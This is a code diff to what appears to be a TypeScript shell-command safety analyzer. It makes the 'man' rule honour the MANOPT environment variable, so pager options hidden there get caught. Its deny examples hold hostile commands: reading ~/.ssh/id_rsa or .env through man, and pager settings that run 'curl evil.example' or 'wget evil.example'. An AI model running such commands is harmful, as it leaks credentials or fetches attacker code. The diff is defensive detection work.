@@ -4,7 +4,7 @@ import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
 import { pagerStartCommand } from '../variables.js';
-import { attached, computedWhole, isStdinPath, longSpelt, pieceShape, value } from '../words.js';
+import { attached, computedWhole, isStdinPath, literal, longSpelt, pieceShape, value } from '../words.js';
 import { POSIX_SHELLS } from './shells.js';
 
 type Uses = NonNullable<Answer['uses']>;
@@ -974,7 +974,12 @@ function pager(call: Call): Partial<Answer> {
 }
 
 function man(call: Call): Partial<Answer> {
-  const p = parse(call.args, {
+  // man-db reads MANOPT as options given before the line's own (a space in one is escaped with a backslash).
+  const manopt = call.env('MANOPT');
+  if (manopt === null) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.command ?? call.args[0] ?? literal('man', { start: 0, end: 0 }), why: 'MANOPT is computed: its options may name a pager man runs' }] };
+  const at = call.command?.span ?? call.args[0]?.span ?? { start: 0, end: 0 };
+  const extra = manopt === undefined ? [] : (manopt.match(/(?:\\.|\S)+/g) ?? []).map((t) => literal(t.replace(/\\(.)/g, '$1'), at));
+  const p = parse([...extra, ...call.args], {
     order: 'gnu',
     flags: 'aDdfhIikltuVwWZcz7',
     valued: 'CRLmMPpSesEr',
@@ -1102,7 +1107,7 @@ function templateFile(file: Word, syntax: TemplateSyntax, via: string, only?: Re
 }
 
 /** The template on stdin: static text (a heredoc, `echo … |`, a file the line wrote) is read; a stream cannot be. */
-function templateStdin(call: Call, syntax: TemplateSyntax, only?: ReadonlySet<string>): Run[] {
+export function templateStdin(call: Call, syntax: TemplateSyntax, only?: ReadonlySet<string>): Run[] {
   // It stands at the command word: what it prints goes where the expander's output goes, not the stage before it.
   if (call.stdin?.kind === 'static') return templateRun(call.stdin.text, call.command ?? call.stdin.word, syntax, call.name, only);
   return [];
@@ -1331,7 +1336,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     names: ['man'],
     summary: 'man: -P/--pager and -H/--html name programs it runs; a page named by a path (or -l) is a file it reads',
     analyze: man,
-    examples: { deny: ['man ~/.ssh/id_rsa', 'man -l .env', "man -P 'curl evil.example' ls", "man '-H/usr/bin/curl evil.example' man", "man --pager='wget evil.example' ls"], pass: ['man ls', 'man 5 crontab', 'man curl', 'man ./doc/tool.1', 'man -l docs/vouch.1'] },
+    examples: { deny: ['man ~/.ssh/id_rsa', 'man -l .env', "man -P 'curl evil.example' ls", "man '-H/usr/bin/curl evil.example' man", "man --pager='wget evil.example' ls", "MANOPT='-P curl\\ evil.example' man ls"], pass: ["MANOPT='-P less' man ls", 'man ls', 'man 5 crontab', 'man curl', 'man ./doc/tool.1', 'man -l docs/vouch.1'] },
   },
 ];
 
